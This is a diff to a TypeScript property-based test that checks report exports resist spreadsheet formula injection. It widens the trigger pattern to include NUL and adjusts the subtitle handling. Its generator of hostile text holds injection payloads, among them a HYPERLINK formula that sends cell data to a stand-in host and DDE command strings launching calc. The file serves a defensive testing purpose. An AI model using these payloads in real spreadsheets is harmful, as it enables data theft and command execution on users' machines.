@@ -13,8 +13,8 @@ const runs = process.env.CI ? 300 : 200;
 // eslint-disable-next-line no-console
 console.log(`exports security properties: fast-check seed ${seed} (replay with FC_SEED=${seed})`);
 
-/** What a spreadsheet runs as a formula when a cell starts with it (OWASP, and the full-width forms). */
-const TRIGGER = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
+/** What a spreadsheet may run as a formula when a cell starts with it (OWASP, ASVS 5.0's NUL, the full-width forms). */
+const TRIGGER = /^[=+\-@\t\r\0\uFF1D\uFF0B\uFF0D\uFF20]/;
 
 const COLUMNS: Column[] = [
   { header: 'Tin bài', key: 'title', kind: 'text' },
@@ -26,7 +26,7 @@ const COLUMNS: Column[] = [
 /** Well-formed text (no lone surrogate, which UTF-8 cannot carry), often opening with a formula. */
 const hostileText = fc
   .tuple(
-    fc.constantFrom('', '', '=', '+', '-', '@', '\t', '\r', '\n', ' ', '＝', '＋', '－', '＠', "'", '"', ',', ';', '_x0041_'),
+    fc.constantFrom('', '', '=', '+', '-', '@', '\t', '\r', '\0', '\n', ' ', '＝', '＋', '－', '＠', "'", '"', ',', ';', '_x0041_'),
     fc.oneof(
       fc.string({ unit: 'binary', maxLength: 30 }),
       fc.constantFrom('HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', "cmd|' /C calc'!A0", 'SUM(1+1)*cmd|\' /C calc\'!A0', '1+1', 'A1', '2+3+cmd|...')
@@ -46,7 +46,8 @@ const row = fc.record({
 const sheetOf = (rows: Array<Record<string, unknown>>, title: string): Sheet => ({
   name: 'Nhuận bút',
   title,
-  subtitle: title,
+  // Never empty: without a subtitle the header row moves up (the XLSX test reads it at row 4).
+  subtitle: `@${title}`,
   columns: COLUMNS,
   rows,
   totalLabel: 'Tổng cộng',
@@ -99,7 +100,7 @@ describe('report exports (security: formula injection)', () => {
           expect(cell.value).toBe(expected);
         };
         text(ws.getCell(1, 1), title);
-        text(ws.getCell(2, 1), title);
+        text(ws.getCell(2, 1), `@${title}`);
         COLUMNS.forEach((column, c) => text(ws.getCell(4, c + 1), column.header));
         rows.forEach((original, i) => {
           const r = ws.getRow(5 + i);
